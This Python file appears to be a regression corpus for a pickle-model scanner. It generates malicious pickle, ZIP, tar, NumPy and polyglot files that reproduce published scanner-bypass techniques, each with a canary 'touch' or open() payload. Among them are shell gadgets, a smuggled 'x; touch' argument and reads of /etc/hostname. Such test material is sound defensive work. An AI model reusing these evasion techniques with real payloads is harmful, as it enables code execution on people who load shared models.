"""The regression corpus: one generated file per technique from the public advisories against
picklescan, modelscan and fickling (GHSA / CVE ids and fickling's test suite), each carrying a
payload that would create a canary file if anything ever ran it.

A :class:`Case` builds its file from code (no binary is stored): ``build(workdir, canary)``
returns the bytes, ``names`` are the imports the scanner must name (every one outside the
allow-list), ``live`` says which real loader runs the technique (the positive control in
test_corpus.py runs those in a subprocess and checks that the canary does appear).

Gadgets that run a shell command use ``touch CANARY``; those that run Python code use
``open(CANARY, 'w').close()``.
"""

from __future__ import annotations

import marshal
import os
import pickle
import struct
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from sec_payloads import (
    evil_pickle,
    legacy_parts,
    replace_member,
    rezip,
    torch_legacy_bytes,
    torch_zip_bytes,
    zip_members,
)

# --------------------------------------------------------------------------- assembler


class Raw(bytes):
    """Already-assembled opcodes, embedded as they are in :func:`call` arguments."""


def lit(v: object) -> bytes:
    if isinstance(v, Raw):
        return bytes(v)
    if v is None:
        return b"N"
    if v is True:
        return b"\x88"
    if v is False:
        return b"\x89"
    if isinstance(v, int):
        return (
            b"J" + struct.pack("<i", v)
            if -(2**31) <= v < 2**31
            else b"\x8a\x08" + v.to_bytes(8, "little", signed=True)
        )
    if isinstance(v, str):
        b = v.encode()
        return b"X" + struct.pack("<I", len(b)) + b
    if isinstance(v, bytes):
        return b"C" + bytes([len(v)]) + v if len(v) < 256 else b"B" + struct.pack("<I", len(v)) + v
    if isinstance(v, list):
        return b"](" + b"".join(map(lit, v)) + b"e"
    if isinstance(v, tuple):
        return b"(" + b"".join(map(lit, v)) + b"t"
    if isinstance(v, dict):
        return b"}(" + b"".join(lit(k) + lit(x) for k, x in v.items()) + b"u"
    raise TypeError(v)


def g(module: str, name: str) -> Raw:  # GLOBAL (protocols 0-3 style)
    return Raw(b"c" + module.encode() + b"\n" + name.encode() + b"\n")


def sg(module: str, name: str) -> Raw:  # STACK_GLOBAL from two SHORT_BINUNICODE
    def su(s: str) -> bytes:
        return b"\x8c" + bytes([len(s.encode())]) + s.encode()

    return Raw(su(module) + su(name) + b"\x93")


def call(fn: bytes, *args: object) -> Raw:
    return Raw(bytes(fn) + b"(" + b"".join(map(lit, args)) + b"tR")


def attr(obj: bytes, name: str) -> Raw:
    return call(g("builtins", "getattr"), Raw(obj), name)


def p2(body: bytes) -> bytes:
    return b"\x80\x02" + bytes(body) + b"."


def p4(body: bytes) -> bytes:
    return b"\x80\x04" + bytes(body) + b"."


def sh(c: str) -> str:
    return f"touch {c}"


def py(c: str) -> str:
    return f"open({c!r}, 'w').close()"


# --------------------------------------------------------------------------- cases


@dataclass(frozen=True)
class Case:
    id: str
    source: str  # the advisory / test it reproduces
    build: Callable[[Path, str], bytes]
    names: tuple[str, ...]  # imports that must be named
    live: str | None = "pickle.load"  # pickle.load | pickle.loads | torch.load | np.load | None
    filename: str = "model.pt"


def _c(id_: str, source: str, module: str, name: str, args: Callable[[str], tuple], **kw):  # type: ignore[no-untyped-def]
    """A direct call module.name(*args(canary)) with GLOBAL, protocol 2."""
    full = f"{module}.{name}"

    def build(d: Path, c: str) -> bytes:
        return p2(call(g(module, name), *args(c)))

    return Case(id_, source, build, (full,), **kw)


def _script(d: Path, c: str) -> str:
    p = d / "payload.py"
    p.write_text(py(c) + "\n")
    return str(p)


def _marshal(d: Path, c: str) -> bytes:
    code = compile(py(c), "<payload>", "exec")
    fn = call(
        sg("types", "FunctionType"), Raw(call(sg("marshal", "loads"), marshal.dumps(code))), {}
    )
    return p4(call(fn))


def _import_getattr(d: Path, c: str) -> bytes:
    os_ = call(g("builtins", "__import__"), "os")
    return p2(call(attr(os_, "system"), sh(c)))


def _importlib(d: Path, c: str) -> bytes:
    os_ = call(sg("importlib", "import_module"), "os")
    return p4(call(attr(os_, "system"), sh(c)))


def _ctypes(d: Path, c: str) -> bytes:
    libc = call(g("ctypes", "CDLL"), None)
    return p2(call(attr(libc, "system"), sh(c).encode()))


def _pydoc(d: Path, c: str) -> bytes:
    return p4(call(call(sg("pydoc", "locate"), "os.system"), sh(c)))


def _pkgutil(d: Path, c: str) -> bytes:
    return p4(call(call(sg("pkgutil", "resolve_name"), "os:system"), sh(c)))


def _code(d: Path, c: str) -> bytes:
    interp = call(sg("code", "InteractiveInterpreter"))
    return p4(call(attr(interp, "runsource"), py(c)))


def _trace(d: Path, c: str) -> bytes:
    return p2(call(attr(call(g("trace", "Trace"), 0, 0), "run"), py(c)))


def _bdb(d: Path, c: str) -> bytes:
    return p2(call(attr(call(g("bdb", "Bdb")), "run"), py(c)))


def _timeit(d: Path, c: str) -> bytes:
    return p2(call(g("timeit", "timeit"), py(c), "pass", Raw(g("time", "perf_counter")), 1))


def _methodcaller(d: Path, c: str) -> bytes:
    os_ = call(g("builtins", "__import__"), "os")
    return p2(call(call(g("_operator", "methodcaller"), "system", sh(c)), Raw(os_)))


def _attrgetter(d: Path, c: str) -> bytes:
    os_ = call(sg("importlib", "import_module"), "os")
    return p4(call(call(call(sg("operator", "attrgetter"), "system"), Raw(os_)), sh(c)))


def _partial(d: Path, c: str) -> bytes:
    return p2(call(call(g("functools", "partial"), Raw(g("os", "system")), sh(c))))


def _dynamic_name(d: Path, c: str) -> bytes:
    # the module name is built at load time: "".join(["o", "s"]); STACK_GLOBAL imports it
    join = attr(Raw(lit("")), "join")
    os_name = call(join, ["o", "s"])
    return p4(call(Raw(os_name + lit("system") + b"\x93"), sh(c)))


def _nested_pickle(d: Path, c: str) -> bytes:
    return p2(call(g("pickle", "loads"), evil_pickle(c)))


def _obj_pop(d: Path, c: str) -> bytes:
    # the call's result is discarded by POP: analysers that drop it lose the call
    return b"\x80\x04(" + bytes(sg("builtins", "open")) + lit(c) + lit("w") + b"o0N."


def _inst(d: Path, c: str) -> bytes:
    return b"(" + lit(c) + lit("w") + b"ibuiltins\nopen\n."


def _pty_build(d: Path, c: str) -> bytes:
    body = sg("pty", "spawn") + b"\x94" + lit(["sh", "-c", sh(c)]) + b"\x85R\x94" + lit("x") + b"b"
    return p4(body)


def _memo_stack_global(d: Path, c: str) -> bytes:
    # imaginaryCTF "Safe Pickle" / picklescan#22: names from the memo, not the preceding opcodes
    s = b"\x8c\x08builtins\x94\x8c\x04open\x94" + b"00" + b"h\x00h\x01\x93"
    return p4(Raw(s) + b"(" + lit(c) + lit("w") + b"tR")


def _memo_after_pop(d: Path, c: str) -> bytes:
    # modelscan memo-poison: MEMOIZE right after POP memoizes the real stack top ("builtins"),
    # which a scanner that memoizes "the previous opcode's value" records as None
    s = b"\x8c\x08builtins\x8c\x01x0\x94" + b"0" + b"\x8c\x04exec\x94" + b"0" + b"h\x00h\x01\x93"
    return p4(Raw(s) + b"(" + lit(py(c)) + b"tR")


def _stack_global_far(d: Path, c: str) -> bytes:
    # GHSA-9gvj-pp9x-gcfr: the STACK_GLOBAL operands are not the two opcodes right before it
    return p4(Raw(b"\x8c\x02os\x8c\x06system)0\x93") + b"(" + lit(sh(c)) + b"tR")


def _string_names(d: Path, c: str) -> bytes:
    return b"S'os'\nS'system'\n\x93(" + lit(sh(c)) + b"tR."


def _py2_names(d: Path, c: str) -> bytes:
    # protocol < 3 maps Python 2 names: __builtin__.exec is builtins.exec
    return p2(call(g("__builtin__", "exec"), py(c)))


def _dotted(module: str) -> Callable[[Path, str], bytes]:
    def build(d: Path, c: str) -> bytes:
        return p4(call(sg(module, "os.system"), sh(c)))

    return build


def _payload_then_error(d: Path, c: str) -> bytes:
    # "exception-oriented": the call runs, then the stream fails (loaders raise, payload ran)
    return b"\x80\x02" + bytes(call(g("os", "system"), sh(c))) + b"\xff"


def _payload_then_eof(d: Path, c: str) -> bytes:
    return b"\x80\x02" + bytes(call(g("os", "system"), sh(c))) + b"]"


def _pickletools_abort(d: Path, c: str) -> bytes:
    return p2(Raw(b"Nq\x00q\x000") + call(g("os", "system"), sh(c)))


def _text_pickle(d: Path, c: str) -> bytes:
    return f"cos\nsystem\n(V{sh(c)}\ntR.".encode()


# ---- framing: pickle.loads(bytes) and pickle.load(file) read different opcodes


def _frame_binunicode(d: Path, c: str) -> bytes:
    # the frame ends inside a BINUNICODE: the file reader drops the rest of the frame and reads
    # the string from after it, so the bytes reading sees a string where the file reading runs
    # the payload. The bytes reading decodes the payload as UTF-8, so its length must stay under
    # 128 (one ASCII byte in the length field): the canary is named relative to the folder the
    # positive control runs in, not by an absolute path whose length depends on the basetemp.
    payload = bytes(call(g("os", "system"), sh(os.path.relpath(c, d)))) + b"."
    assert len(payload) < 128, f"canary path too long for this case: {c}"
    tail = b"X" + struct.pack("<I", len(payload))  # bytes reading: the payload is a string
    filler = b"F" * 20
    n = len(filler) + len(tail)
    d1 = b"D" * len(tail)
    frame_body = b"X" + struct.pack("<I", n) + d1
    return (
        b"\x80\x04\x95"
        + struct.pack("<Q", len(frame_body))
        + frame_body
        + filler
        + tail
        + payload
        + b"0N."
    )


def _frame_binbytes_prefetch(d: Path, c: str) -> bytes:
    # fickling test_frame_boundary_divergence (cpython#154848): the frame starts where the
    # 128 KiB prefetch buffer ends and cuts BINBYTES' length in two
    hidden = b"cos\nsystem\n" + b"V" + sh(c).encode() + b"\n" + b"\x85R"
    return (
        b"\x80\x05N" + b"V" + b"a" * (8192 * 16 - 17) + b"\n" + b"0(" + b"\x95" + struct.pack("<Q", 2)
        + b"B" + b"\x07\x01\x00\x00" + b"\x00\x00" + (hidden + b"(").ljust(256 + 5, b"N") + b"1."
    )  # fmt: skip


def _frame_global_line(d: Path, c: str) -> bytes:
    # the frame ends inside GLOBAL's module line: the bytes reading imports
    # "collections.Orderedos", the file reading "os"
    head = b"ccollections.Ordered"
    return (
        b"\x80\x04\x95" + struct.pack("<Q", len(head)) + head + b"os\nsystem\n"
        + b"(" + lit(sh(c)) + b"tR."
    )  # fmt: skip


def _frame_binint(d: Path, c: str) -> bytes:
    # a BININT cut by the frame's end: the file reading resumes one byte later, at the payload;
    # the bytes reading takes that byte as a BINUNICODE whose length swallows (and breaks) it
    payload = bytes(call(g("os", "system"), sh(c))) + b"."
    return b"\x80\x04\x95" + struct.pack("<Q", 2) + b"J\x01" + b"\x02\x03\x04" + b"X" + payload


def _frame_past_stop(d: Path, c: str) -> bytes:
    # legacy torch reads several pickles from one file: a frame that runs past the first STOP
    # makes pickle.load(file) resume after the frame, not after STOP
    first = b"\x80\x04\x95" + struct.pack("<Q", 12) + b"K\x01." + b"X\x00\x01\x00\x00" + b"PADP"
    return first + evil_pickle(c)


# ---- containers


def _zip_flag(central_only: bool) -> Callable[[Path, str], bytes]:
    def build(d: Path, c: str) -> bytes:
        data = bytearray(replace_member(torch_zip_bytes(), "data.pkl", evil_pickle(c)))
        for sig, flag_at in ((b"PK\x01\x02", 8), (b"PK\x03\x04", 6)):
            if central_only and sig == b"PK\x03\x04":
                continue
            pos = data.find(sig)
            while pos >= 0:
                nlen = struct.unpack_from("<H", data, pos + (28 if sig == b"PK\x01\x02" else 26))[0]
                off = pos + (46 if sig == b"PK\x01\x02" else 30)
                if data[off : off + nlen].endswith(b"data.pkl"):
                    data[pos + flag_at] |= 0x01
                pos = data.find(sig, pos + 4)
        return bytes(data)

    return build


def _zip_name_mismatch(d: Path, c: str) -> bytes:
    data = bytearray(replace_member(torch_zip_bytes(), "data.pkl", evil_pickle(c)))
    pos = data.find(b"PK\x03\x04")
    while pos >= 0:
        nlen = struct.unpack_from("<H", data, pos + 26)[0]
        name = bytes(data[pos + 30 : pos + 30 + nlen])
        if name.endswith(b"data.pkl"):
            data[pos + 30 : pos + 30 + nlen] = name.replace(b"data.pkl", b"data.txt")
        pos = data.find(b"PK\x03\x04", pos + 4)
    return bytes(data)


def _zip_bad_crc(d: Path, c: str) -> bytes:
    data = bytearray(replace_member(torch_zip_bytes(), "data.pkl", evil_pickle(c)))
    pos = data.find(b"PK\x01\x02")
    while pos >= 0:
        struct.pack_into("<I", data, pos + 16, 0xDEADBEEF)
        pos = data.find(b"PK\x01\x02", pos + 4)
    pos = data.find(b"PK\x03\x04")
    while pos >= 0:
        struct.pack_into("<I", data, pos + 14, 0xDEADBEEF)
        pos = data.find(b"PK\x03\x04", pos + 4)
    return bytes(data)


def _zip_duplicate(d: Path, c: str) -> bytes:
    members = zip_members(torch_zip_bytes())
    pkl = next(n for n, _ in members if n.endswith("data.pkl"))
    return rezip(members + [(pkl, evil_pickle(c))])


def _zip_extra_member(d: Path, c: str) -> bytes:
    members = zip_members(torch_zip_bytes())
    top = members[0][0].split("/")[0]
    return rezip(members + [(f"{top}/extra/evil.bin", evil_pickle(c))])


def _zip_nested(d: Path, c: str) -> bytes:
    inner = replace_member(torch_zip_bytes(), "data.pkl", evil_pickle(c))
    members = zip_members(torch_zip_bytes())
    top = members[0][0].split("/")[0]
    return rezip(members + [(f"{top}/extra/inner.pt", inner)])


def _zip_deflated(d: Path, c: str) -> bytes:
    import io
    import zipfile

    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        for n, data in zip_members(torch_zip_bytes()):
            if n.endswith("data.pkl"):
                z.writestr(n, evil_pickle(c), compress_type=zipfile.ZIP_DEFLATED)
            else:
                z.writestr(n, data)
    return buf.getvalue()


def _zip_no_data_pkl(d: Path, c: str) -> bytes:
    return rezip([("archive/weights.pkl", evil_pickle(c)), ("archive/version", b"3\n")])


def _zip_two_tops(d: Path, c: str) -> bytes:
    return rezip(zip_members(torch_zip_bytes()) + [("other/data.pkl", evil_pickle(c))])


def _zip_prepended(d: Path, c: str) -> bytes:
    return evil_pickle(c) + torch_zip_bytes()


def _zip_appended_archive(d: Path, c: str) -> bytes:
    # a second archive after the first end record: readers that search the end record from the
    # end of the file (torch's miniz) read this one
    return torch_zip_bytes() + replace_member(torch_zip_bytes(), "data.pkl", evil_pickle(c))


def _zip_broken_cd(d: Path, c: str) -> bytes:
    data = bytearray(replace_member(torch_zip_bytes(), "data.pkl", evil_pickle(c)))
    cd = data.find(b"PK\x01\x02")
    data[cd : cd + 4] = b"XX\x01\x02"  # the central directory is unusable; local headers remain
    return bytes(data)


def _legacy_slot(index: int) -> Callable[[Path, str], bytes]:
    def build(d: Path, c: str) -> bytes:
        parts = legacy_parts(torch_legacy_bytes())
        parts[index] = evil_pickle(c)
        return b"".join(parts)

    return build


def _legacy_trailing(d: Path, c: str) -> bytes:
    return torch_legacy_bytes() + evil_pickle(c)


def _legacy_tar(d: Path, c: str) -> bytes:
    import io
    import tarfile

    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for name, payload in (
            ("sys_info", b"\x80\x02}q\x00."),
            ("pickle", evil_pickle(c)),
            ("storages", b"\x80\x02K\x00."),
            ("tensors", b"\x80\x02K\x00."),
        ):
            info = tarfile.TarInfo(name)
            info.size = len(payload)
            tar.addfile(info, io.BytesIO(payload))
    return buf.getvalue()


class _Open:
    def __init__(self, c: str) -> None:
        self.c = c

    def __reduce__(self):  # type: ignore[no-untyped-def]
        return (open, (self.c, "w"))


def _npy_object(d: Path, c: str) -> bytes:
    import numpy as np
    from sec_folders import npy_bytes

    return npy_bytes(np.array([_Open(c)], dtype=object))


def _npz_object(d: Path, c: str) -> bytes:
    import io

    import numpy as np

    buf = io.BytesIO()
    np.savez(buf, w=np.zeros(2), hook=np.array([_Open(c)], dtype=object))
    return buf.getvalue()


def _png_polyglot(d: Path, c: str) -> bytes:
    from sec_folders import png_bytes

    return png_bytes() + evil_pickle(c)


def _protocol0_dict(d: Path, c: str) -> bytes:
    return pickle.dumps({"classes": ["person"], "hook": _Open(c)}, protocol=0)


# --------------------------------------------------------------------------- the corpus

PS = "picklescan"
FK = "fickling"
MS = "modelscan"
CORPUS: list[Case] = [
    # ---- gadgets a block-list missed (each one is simply not on the allow-list here)
    _c("os-system", f"{PS} README baseline", "os", "system", lambda c: (sh(c),)),
    _c("posix-system", f"{PS} baseline (os.system's real module)", "posix", "system", lambda c: (sh(c),)),
    _c("subprocess-call", f"{PS} baseline", "subprocess", "call", lambda c: (["touch", c],)),
    _c("builtins-exec", f"{PS} baseline", "builtins", "exec", lambda c: (py(c),)),
    _c("builtins-eval", f"{FK} test_unsafe_builtin_eval_still_flagged", "builtins", "eval", lambda c: (py(c),)),
    _c("io-open", "picklescan PoC (io.open, not blocked)", "io", "open", lambda c: (c, "w")),
    _c("codecs-open", "picklescan PoC codecs.open (huntr)", "codecs", "open", lambda c: (c, "w")),
    _c("_io-FileIO", f"{FK} test_io_fileio / CVE-2025-10155 fix", "_io", "FileIO", lambda c: (c, "w")),
    _c("distutils-write_file", "GHSA-m273-6v24-x4m4", "distutils.file_util", "write_file", lambda c: (c, ["x"])),
    _c("shutil-copyfile", f"{FK} PR #210 (shutil)", "shutil", "copyfile", lambda c: ("/etc/hostname", c)),
    _c("urllib-urlretrieve", "GHSA-hgrh-qx5j-jfwx (network modules)", "urllib.request", "urlretrieve", lambda c: ("file:///etc/hostname", c)),
    _c("timeit-timeit-stmt", "CVE-2025-71351 / GHSA-v7x6-rv5q-mhwc", "timeit", "timeit", lambda c: (py(c), "pass", Raw(g("time", "perf_counter")), 1)),
    _c("cProfile-run", "GHSA-p523-jq9w-64x9", "cProfile", "run", lambda c: (py(c),)),
    _c("profile-run", "GHSA-7wx9-6375-f5wh", "profile", "run", lambda c: (py(c),)),
    _c("uuid-_get_command_stdout", "GHSA-5hwf-rc88-82xm / CVE-2026-56315", "uuid", "_get_command_stdout", lambda c: ("touch", c)),
    _c("_osx_support-_find_build_tool", "GHSA-5hwf-rc88-82xm", "_osx_support", "_find_build_tool", lambda c: (f"x; {sh(c)} #",)),
    _c("_aix_support-_read_cmd_output", "GHSA-5hwf-rc88-82xm", "_aix_support", "_read_cmd_output", lambda c: (sh(c),), live=None),
    _c("imaplib-IMAP4_stream", "CVE-2026-56315", "imaplib", "IMAP4_stream", lambda c: (sh(c),)),
    _c("_pyrepl-pager", "CVE-2026-56315", "_pyrepl.pager", "pipe_pager", lambda c: ("x", sh(c)), live=None),
    _c("multiprocessing-spawnv_passfds", "GHSA-q5qq-mvfm-j35x", "multiprocessing.util", "spawnv_passfds", lambda c: (b"/bin/sh", [b"sh", b"-c", sh(c).encode()], ())),
    _c("_bootsubprocess-check_output", "picklescan PoC (_bootsubprocess, huntr)", "_bootsubprocess", "check_output", lambda c: (["sh", "-c", sh(c)],), live=None),
    _c("_posixsubprocess-fork_exec", "picklescan PoC (_posixsubprocess, huntr)", "_posixsubprocess", "fork_exec", lambda c: (["sh"],), live=None),
    _c("numpy-f2py-myeval", "CVE-2025-71365", "numpy.f2py.crackfortran", "myeval", lambda c: (py(c),)),
    _c("numpy-f2py-getlincoef", "GHSA-r8g5-cgf2-4m4m", "numpy.f2py.crackfortran", "getlincoef", lambda c: (py(c), {}), live=None),
    _c("pip-main", "CVE-2025-1716", "pip", "main", lambda c: (["download", "--dest", c, "x"],), live=None),
    _c("ensurepip-_run_pip", "GHSA-xp4f-hrf8-rxw7", "ensurepip", "_run_pip", lambda c: (["download", "--dest", c],), live=None),
    _c("venv-create", "GHSA-vqmv-47xg-9wpr", "venv", "create", lambda c: (c,), live=None),
    _c("idlelib-runcommand", "CVE-2025-71357 / GHSA-j343-8v2j-ff7w", "idlelib.pyshell", "ModifiedInterpreter.runcommand", lambda c: (None, py(c)), live=None),
    _c("pty-spawn", "CVE-2025-71322 / GHSA-r7v6-mfhq-g3m2", "pty", "spawn", lambda c: (["sh", "-c", sh(c)],), live=None),
    _c("_xxsubinterpreters-run_string", "GHSA-6ggj-6f2q-f7mx", "_xxsubinterpreters", "run_string", lambda c: (0, py(c)), live=None),
    _c("http-client", "picklescan PoC http.client (huntr)", "http.client", "HTTPConnection", lambda c: ("127.0.0.1", 9), live=None),
    Case("runpy-run_path-script", "GHSA-wfq2-52f7-7qvj (with the script)", lambda d, c: p2(call(g("runpy", "run_path"), _script(d, c))), ("runpy.run_path",)),
    Case("marshal-FunctionType", "GHSA-565g-hwwr-4pp3 / picklescan PoC (huntr)", _marshal, ("marshal.loads", "types.FunctionType")),
    Case("builtins-__import__", "GHSA-h4rm-mm56-xf63", _import_getattr, ("builtins.__import__", "builtins.getattr")),
    Case("importlib-import_module", "GHSA-q5qq-mvfm-j35x / GHSA-vvpj-8cmc-gx39 follow-up", _importlib, ("importlib.import_module", "builtins.getattr")),
    Case("ctypes-CDLL-system", "GHSA-5hvc-6wx8-mvv4", _ctypes, ("ctypes.CDLL", "builtins.getattr")),
    Case("pydoc-locate", "GHSA-5hvc-6wx8-mvv4", _pydoc, ("pydoc.locate",)),
    Case("pkgutil-resolve_name", "GHSA-vvpj-8cmc-gx39 (universal bypass)", _pkgutil, ("pkgutil.resolve_name",)),
    Case("code-InteractiveInterpreter", "GHSA-q5qq-mvfm-j35x", _code, ("code.InteractiveInterpreter", "builtins.getattr")),
    Case("trace-Trace-run", "GHSA-46h3-79wf-xr6c", _trace, ("trace.Trace", "builtins.getattr")),
    Case("bdb-Bdb-run", "GHSA-4675-36f9-wf6r", _bdb, ("bdb.Bdb", "builtins.getattr")),
    Case("timeit-number-1", "CVE-2025-71351 (timer from a GLOBAL)", _timeit, ("timeit.timeit", "time.perf_counter")),
    Case("_operator-methodcaller", "GHSA-955r-x9j8-7rhh", _methodcaller, ("_operator.methodcaller", "builtins.__import__")),
    Case("operator-attrgetter", "GHSA-m273-6v24-x4m4 / modelscan PoC (importlib + operator)", _attrgetter, ("operator.attrgetter", "importlib.import_module")),
    Case("functools-partial", f"{FK} PR #210 (functools.partial wrapper)", _partial, ("functools.partial", "os.system")),
    Case("dynamic-name-join", f"{FK} test_stack_global_dynamic_import (CTF)", _dynamic_name, ("builtins.getattr",)),
    Case("nested-pickle-loads", "GHSA-84r2-jw7c-4r5q", _nested_pickle, ("pickle.loads",)),
    Case("pty-spawn-build", "GHSA-r7v6-mfhq-g3m2 (REDUCE then BUILD)", _pty_build, ("pty.spawn",), live=None),
    Case("obj-then-pop", "GHSA-mxhj-88fx-4pcv (call discarded by POP)", _obj_pop, ("builtins.open",)),
    Case("inst-opcode", f"{FK} PR #108 (protocol-0 INST/OBJ)", _inst, ("builtins.open",)),
    # ---- names hidden from parsers that do not run the machine the way CPython does
    Case("memo-stack-global", "picklescan issue #22 (imaginaryCTF Safe Pickle)", _memo_stack_global, ("builtins.open",)),
    Case("memo-after-pop", "modelscan memo-poison (huntr)", _memo_after_pop, ("builtins.exec",)),
    Case("stack-global-far-operands", "GHSA-9gvj-pp9x-gcfr / CVE-2025-71325", _stack_global_far, ("os.system",)),
    Case("string-opcode-names", f"{FK} / {PS} (protocol-0 STRING names for STACK_GLOBAL)", _string_names, ("os.system",)),
    Case("python2-name-mapping", "fix_imports (__builtin__ -> builtins)", _py2_names, ("builtins.exec",)),
    Case("submodule-dotted-asyncio", "CVE-2025-10157 / GHSA-f7qq-56ww-84cr", _dotted("asyncio.unix_events"), ("asyncio.unix_events.os.system",)),
    Case("dotted-attr-pathlib", "GHSA-5j3x-jp52-966f", _dotted("pathlib"), ("pathlib.os.system",)),
    Case("dotted-attr-torch", "submodule of an allowed package (torch.serialization.os.system)", _dotted("torch.serialization"), ("torch.serialization.os.system",)),
    Case("pickletools-abort", "memo key redefined: pickletools.dis raises first", _pickletools_abort, ("os.system",)),
    Case("payload-then-bad-opcode", "exception-oriented programming (arXiv:2508.19774)", _payload_then_error, ("os.system",)),
    Case("payload-then-eof", "truncated after the call (scanner errors taken as clean)", _payload_then_eof, ("os.system",)),
    Case("text-pickle-txt", "CVE-2025-10155 class: a protocol-0 pickle named like text", _text_pickle, ("os.system",), filename="labels.pkl"),
    Case("plain-pickle-pt-name", "CVE-2025-10155 (plain pickle with a PyTorch extension)", lambda d, c: evil_pickle(c), ("builtins.open",), live="torch.load"),
    Case("plain-pickle-bin-name", "CVE-2025-1889 (non-standard extension)", lambda d, c: evil_pickle(c), ("builtins.open",), filename="weights.bin"),
    Case("protocol0-dict-root", "issue 17 item 1 (LIST/DICT regression)", _protocol0_dict, ("io.open",)),
    # ---- framing
    Case("frame-binunicode-length", "cpython#154848 / issue 17 item 3", _frame_binunicode, ("os.system",), live="pickle.load(BytesIO)"),
    Case("frame-binbytes-prefetch", f"{FK} test_frame_boundary_divergence", _frame_binbytes_prefetch, ("os.system",), live="pickle.load(BytesIO)"),
    Case("frame-global-line", f"{FK} test_frame_boundary_straddle_variants (GLOBAL)", _frame_global_line, ("os.system",), live="pickle.load(BytesIO)"),
    Case("frame-binint", f"{FK} test_frame_boundary_straddle_variants (BININT)", _frame_binint, ("os.system",), live="pickle.load(BytesIO)"),
    Case("frame-past-stop", "frames and stacked pickles (legacy torch reads on)", _frame_past_stop, ("builtins.open",), live=None),
    # ---- archives
    Case("zip-encrypted-flag-central", "CVE-2025-1945 (ZIP flag bits)", _zip_flag(True), ("builtins.open",), live=None),
    Case("zip-encrypted-flag", "CVE-2025-1945 (ZIP flag bits, both headers)", _zip_flag(False), ("builtins.open",), live=None),
    Case("zip-name-mismatch", "CVE-2025-1944 (local header name differs)", _zip_name_mismatch, ("builtins.open",), live="torch.load"),
    Case("zip-bad-crc", "CVE-2025-10156 (bad CRC)", _zip_bad_crc, ("builtins.open",), live="torch.load"),
    Case("zip-duplicate-data-pkl", "duplicate member names (readers disagree)", _zip_duplicate, ("builtins.open",), live=None),
    Case("zip-extra-member", "CVE-2025-1889 (pickle under another name in the archive)", _zip_extra_member, ("builtins.open",), live=None),
    Case("zip-nested-archive", f"{FK} test_recursive_zip", _zip_nested, ("builtins.open",), live=None),
    Case("zip-deflated-data-pkl", "compressed member (torch inflates it)", _zip_deflated, ("builtins.open",), live="torch.load"),
    Case("zip-without-data-pkl", "archive that is not torch's layout", _zip_no_data_pkl, ("builtins.open",), live=None),
    Case("zip-two-top-folders", "second top folder", _zip_two_tops, ("builtins.open",), live=None),
    Case("zip-prepended-pickle", "polyglot: pickle + zip (torch's legacy path runs it)", _zip_prepended, ("builtins.open",), live="torch.load"),
    Case("zip-appended-archive", "second archive after the end record", _zip_appended_archive, ("builtins.open",), live=None),
    Case("zip-broken-central-directory", "unusable central directory, local headers walk", _zip_broken_cd, ("builtins.open",), live=None),
    Case("legacy-magic-slot", "legacy torch: payload instead of the magic number", _legacy_slot(0), ("builtins.open",), live="torch.load"),
    Case("legacy-sysinfo-slot", "legacy torch: payload in sys_info", _legacy_slot(2), ("builtins.open",), live="torch.load"),
    Case("legacy-trailing-pickle", "legacy torch: stacked pickle after the storages", _legacy_trailing, ("builtins.open",), live=None),
    Case("legacy-tar", f"{FK} test_legacy_tar (torch < 0.1.10)", _legacy_tar, ("builtins.open",), live=None),
    Case("npy-object-array", f"{FK} test_numpy_pickle / PR #108 (np.load allow_pickle)", _npy_object, ("io.open",), live="np.load", filename="anchors.npy"),
    Case("npz-object-member", "np.load allow_pickle on an .npz member", _npz_object, ("io.open",), live="np.load", filename="stats.npz"),
    Case("png-polyglot", f"{FK} test_polyglot (data after the image)", _png_polyglot, ("builtins.open",), live=None, filename="loss.png"),
]  # fmt: skip
